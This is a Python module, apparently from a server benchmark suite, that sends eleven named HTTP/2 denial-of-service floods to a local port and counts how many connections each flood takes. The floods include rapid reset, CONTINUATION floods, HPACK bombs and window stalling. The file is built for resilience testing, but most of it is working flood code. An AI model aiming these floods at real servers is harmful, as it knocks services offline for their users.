"""A client that wants to be expensive: it floods a server, and is back when it is turned away.

Owns the floods of HTTP/2, as bytes that are made once, and the process that sends them; must not
know which server it talks to. ``python -m bench.floods NAME PORT`` sends one until its standard
input ends, and prints how many connections it took.
"""

from __future__ import annotations

import select
import socket
import struct
import subprocess
import sys
from collections.abc import Callable

from bench.over_http2 import frame
from bench.process import pin
from bench.servers import ROOT

_DATA, _HEADERS, _PRIORITY, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE = 0, 1, 2, 3, 4, 6, 8
_CONTINUATION, _UNKNOWN = 9, 0x7F
_INITIAL_WINDOW, _CANCEL = 4, 8
_END_STREAM, _END_HEADERS = 1, 4
_GREETING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(_SETTINGS, 0, 0, b"")
_GET = b"\x82\x86\x84\x01\x09127.0.0.1"  # with a field that is not indexed (RFC 7541)
_POST = b"\x83" + _GET[1:]

_SHUT = frame(_SETTINGS, 0, 0, struct.pack("!HI", _INITIAL_WINDOW, 0))  # all windows

_ADDRESS = "127.0.0.2"  # the attacker's, as servers may tell clients apart by that
_SIZE = 256 * 1024  # octets of a flood on one connection, about
_STREAMS = 100
_SLOW = "slow reading"
_PAUSE = 0.1  # seconds between two readings of a slow one, of a kilobyte each


def _filled(*pieces: bytes) -> bytes:
    piece = b"".join(pieces)
    return piece * (_SIZE // len(piece))


def _requests(block: bytes, count: int) -> list[bytes]:
    flags = _END_STREAM | _END_HEADERS
    return [frame(_HEADERS, flags, 2 * n + 1, block) for n in range(count)]


def _resets() -> bytes:
    cancel = struct.pack("!I", _CANCEL)
    parts = []
    for n, request in enumerate(_requests(_GET, _SIZE // 36)):
        parts += [request, frame(_RST_STREAM, 0, 2 * n + 1, cancel)]
    return b"".join(parts)


def _continuations() -> bytes:
    head = frame(_HEADERS, _END_STREAM, 1, _GET)
    return head + _filled(frame(_CONTINUATION, 0, 1, b"\x00\x01a\x01b"))


def _settings() -> bytes:
    return _filled(frame(_SETTINGS, 0, 0, struct.pack("!HI", _INITIAL_WINDOW, 65535)))


def _pings() -> bytes:
    return _filled(frame(_PING, 0, 0, bytes(8)))


def _empty_data() -> bytes:
    """Of a request whose answer has no window, lest it be complete before."""
    return _SHUT + frame(_HEADERS, _END_HEADERS, 1, _POST) + _filled(frame(_DATA, 0, 1, b""))


def _bombs() -> bytes:
    """A large field in the table, and thousands of references to it; again and again."""
    entry = b"\x40\x01a\x7f\xa1\x1e" + b"b" * 4000
    return b"".join(_requests(_GET + entry + b"\xbe" * 12_000, 16))


def _empty_fields() -> bytes:
    block = _GET + b"\x00\x00\x00" * 500
    return b"".join(_requests(block, _SIZE // len(block)))


def _stalls() -> bytes:
    """Answers for which there is no window, which is opened by an octet at a time."""
    octet = struct.pack("!I", 1)
    opened = [frame(_WINDOW_UPDATE, 0, 2 * n + 1, octet) for n in range(_STREAMS)]
    return _SHUT + b"".join(_requests(_GET, _STREAMS)) + _filled(*opened)


def _slow() -> bytes:
    """Requests whose answers are read by the kilobyte."""
    return b"".join(_requests(_GET, _SIZE // 23))


def _priorities() -> bytes:
    return _filled(frame(_PRIORITY, 0, 3, struct.pack("!IB", 5, 1)))


def _unknown() -> bytes:
    return _filled(frame(_UNKNOWN, 0, 0, b""))


FLOODS: dict[str, Callable[[], bytes]] = {
    "rapid reset": _resets,
    "CONTINUATION": _continuations,
    "SETTINGS": _settings,
    "PING": _pings,
    "empty DATA": _empty_data,
    "HPACK bombs": _bombs,
    "zero-length fields": _empty_fields,
    "window stalling": _stalls,
    _SLOW: _slow,
    "PRIORITY": _priorities,
    "unknown frames": _unknown,
}


def _attack(flood: bytes, port: int, slow: bool) -> bool:
    """Send a flood, and wait to be turned away; tell whether to go on."""
    with socket.create_connection(("127.0.0.1", port), source_address=(_ADDRESS, 0)) as sock:
        sock.setblocking(False)
        rest = memoryview(_GREETING + flood)
        while True:
            readable, writable, _ = select.select([sock, sys.stdin], [sock] if rest else [], [])
            if sys.stdin in readable:
                return False
            try:
                if writable:
                    rest = rest[sock.send(rest) :]
                if readable and not sock.recv(1024 if slow else 1 << 20):
                    return True
            except OSError:
                return True
            if slow and not rest:
                select.select([sys.stdin], [], [], _PAUSE)


def main(name: str, port: int) -> None:
    """Flood the port."""
    flood = FLOODS[name]()
    connections = 1
    while _attack(flood, port, name == _SLOW):
        connections += 1
    print(connections)


class Flooder:
    """Somebody who floods a server from a core of one's choice, as long as `with` lasts."""

    def __init__(self, name: str, port: int, core: int) -> None:
        self._process = subprocess.Popen(
            [sys.executable, "-m", "bench.floods", name, str(port)],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
            cwd=ROOT,
            preexec_fn=pin(core),
        )
        self.connections = 0

    def __enter__(self) -> Flooder:
        return self

    def __exit__(self, *_: object) -> None:
        """End it, and learn how many connections it took."""
        self.connections = int(self._process.communicate()[0] or 0)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]))
